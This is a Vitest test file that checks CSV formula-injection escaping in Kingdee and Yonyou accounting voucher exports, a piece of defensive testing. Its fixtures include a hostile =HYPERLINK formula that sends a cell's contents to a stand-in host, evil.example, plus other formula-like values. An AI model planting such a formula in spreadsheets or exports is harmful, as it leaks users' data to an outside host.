import { describe, expect, it } from "vitest";
import { buildVouchers, KINGDEE_COLUMNS, kingdeeVoucherCsv, parseCsv, resolveLedgerAccounts, YONYOU_COLUMNS, yonyouVoucherCsv, type DailyFlow } from "@/lib/core/reports";

// Account names and the merchant's name are typed by the merchant (or whoever signed up as one); the
// voucher CSV is opened in Excel by their accountant, where a cell starting with = + - @ runs as a formula.
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")';
const MERCHANT = "=1+1 链动小铺";

const day: DailyFlow = {
  date: "2024-03-01",
  channel: "alipay",
  count: 2,
  grossAmount: 20000,
  refundCount: 0,
  refundedAmount: 0,
  netAmount: 20000,
  matchedAmount: 15000,
  unmatchedAmount: 5000,
  writtenOffAmount: 0,
  unmatchedRefundedAmount: 0,
  writeOffs: [],
};

const accounts = resolveLedgerAccounts({
  ledgerAccounts: {
    channels: { alipay: { code: "101201", name: HYPERLINK } },
    unmatchedCredit: { code: "-2241", name: "@SUM(1,2)" },
  },
});
const vouchers = buildVouchers([day], accounts);

/** The data lines of a CSV as records by column. */
function records(csv: string, columns: readonly string[]) {
  const [head, ...rows] = parseCsv(csv);
  expect(head).toEqual([...columns]);
  return rows.map((r) => Object.fromEntries(columns.map((c, i) => [c, r[i]])));
}

describe("voucher CSV and formula injection", () => {
  it("金蝶: account names and the preparer that start like a formula are written as text; codes and amounts as they are", () => {
    const rows = records(kingdeeVoucherCsv(vouchers, { preparer: MERCHANT }), KINGDEE_COLUMNS);
    expect(rows.map((r) => [r.科目代码, r.科目名称, r.借方, r.贷方])).toEqual([
      ["101201", `'${HYPERLINK}`, "200.00", "0.00"],
      ["1122", "应收账款", "0.00", "150.00"],
      ["-2241", "'@SUM(1,2)", "0.00", "50.00"],
    ]);
    expect(rows.every((r) => r.制单 === `'${MERCHANT}`)).toBe(true);
    expect(rows[0].凭证摘要).toBe("2024-03-01 支付宝收款 2 笔");
  });

  it("用友: the same", () => {
    const rows = records(yonyouVoucherCsv(vouchers, { preparer: MERCHANT }), YONYOU_COLUMNS);
    expect(rows.map((r) => [r.科目编码, r.科目名称, r.借方金额, r.贷方金额])).toEqual([
      ["101201", `'${HYPERLINK}`, "200.00", "0.00"],
      ["1122", "应收账款", "0.00", "150.00"],
      ["-2241", "'@SUM(1,2)", "0.00", "50.00"],
    ]);
    expect(rows.every((r) => r.制单人 === `'${MERCHANT}`)).toBe(true);
  });

  it("a summary, voucher word or preparer that starts like a formula is guarded too", () => {
    const [v] = buildVouchers([day], accounts, "+记");
    const tampered = { ...v, lines: v.lines.map((l) => ({ ...l, summary: `-${l.summary}` })) };
    const kingdee = records(kingdeeVoucherCsv([tampered], { preparer: "\tTab" }), KINGDEE_COLUMNS);
    expect([kingdee[0].凭证字, kingdee[0].凭证摘要.slice(0, 2), kingdee[0].制单]).toEqual(["'+记", "'-", "'\tTab"]);
    const yonyou = records(yonyouVoucherCsv([tampered], { preparer: "\tTab" }), YONYOU_COLUMNS);
    expect([yonyou[0].凭证类别, yonyou[0].摘要.slice(0, 2), yonyou[0].制单人]).toEqual(["'+记", "'-", "'\tTab"]);
  });
});
